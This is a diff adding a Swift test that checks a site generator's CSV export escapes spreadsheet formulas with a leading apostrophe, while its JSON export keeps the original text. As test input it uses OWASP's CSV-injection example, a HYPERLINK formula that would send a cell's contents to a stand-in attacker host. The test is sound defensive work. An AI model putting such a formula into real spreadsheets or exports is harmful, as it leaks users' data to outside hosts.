@@ -1,3 +1,4 @@
+import DossierRecords
 import DossierSite
 import Foundation
 import Testing
@@ -118,5 +119,52 @@ import FoundationXML
         // The JSON export reads back with the payload intact.
         let json = try JSONSerialization.jsonObject(with: Data(contentsOf: output.appendingPathComponent("data/issues.json")))
         #expect((json as? [[String: Any]])?.first?["title"] as? String == payload)
+    }
+
+    /// OWASP's CSV-injection example: in data/issues.csv every text cell a spreadsheet
+    /// would run as a formula starts with `'`; data/issues.json keeps the text as written.
+    @Test func formulasReachTheSpreadsheetExportAsText() throws {
+        let formula = #"=HYPERLINK("http://attacker.invalid/?d="&A2,"Open")"#
+        let quoted = "\"" + formula.replacingOccurrences(of: "\"", with: "\"\"") + "\""
+        let site = FileManager.default.temporaryDirectory.appendingPathComponent("dossier-formula-\(UUID().uuidString)")
+        let content = site.appendingPathComponent("content")
+        try FileManager.default.createDirectory(at: content, withIntermediateDirectories: true)
+        let yaml = "'" + formula.replacingOccurrences(of: "'", with: "''") + "'"
+        try Data("categories:\n  - {id: bug, label: \(yaml), sla: 3d}\n".utf8).write(
+            to: content.appendingPathComponent("project.yml"))
+        try Data(
+            ("id,title,status,opened,category,module,description\n"
+                + "I-1,\(quoted),open,2026-03-02 09:00,bug,\(quoted),\(quoted)\n"
+                + "I-2,-1 day off,open,2026-03-02 09:00,bug,@home,+7 495\n").utf8
+        ).write(to: content.appendingPathComponent("issues.csv"))
+        let result = try Dossier.build(.init(site: site, asOf: .written("2026-03-12")))
+        #expect(
+            result.report.diagnostics.items.filter { $0.severity == .error }.isEmpty,
+            "\(result.report.diagnostics.items.map(\.message))")
+        let output = site.appendingPathComponent("output")
+        let text = try String(contentsOf: output.appendingPathComponent("data/issues.csv"), encoding: .utf8)
+        let (table, problems) = CSVParser().parse(text, file: "data/issues.csv")
+        #expect(problems.isEmpty)
+        let header = table.header.map(\.value)
+        let row = try #require(table.rows.first)
+        func cell(_ name: String) -> String? { header.firstIndex(of: name).map { row.cells[$0].value } }
+        #expect(cell("title") == "'" + formula)
+        #expect(cell("module") == "'" + formula)
+        #expect(cell("category_label") == "'" + formula)
+        #expect(cell("description") == "'" + formula)
+        let second = try #require(table.rows.last)
+        #expect(second.cells[header.firstIndex(of: "title")!].value == "'-1 day off")
+        #expect(second.cells[header.firstIndex(of: "module")!].value == "'@home")
+        #expect(second.cells[header.firstIndex(of: "description")!].value == "'+7 495")
+        // No text cell of any row starts a formula.
+        for row in table.rows {
+            for value in row.cells.map(\.value) {
+                #expect(!(value.first.map { "=+@\t\r".contains($0) } ?? false), "\(value) would run as a formula")
+            }
+        }
+        let json = try JSONSerialization.jsonObject(with: Data(contentsOf: output.appendingPathComponent("data/issues.json")))
+        let first = try #require((json as? [[String: Any]])?.first)
+        #expect(first["title"] as? String == formula)
+        #expect(first["description"] as? String == formula)
     }
 }
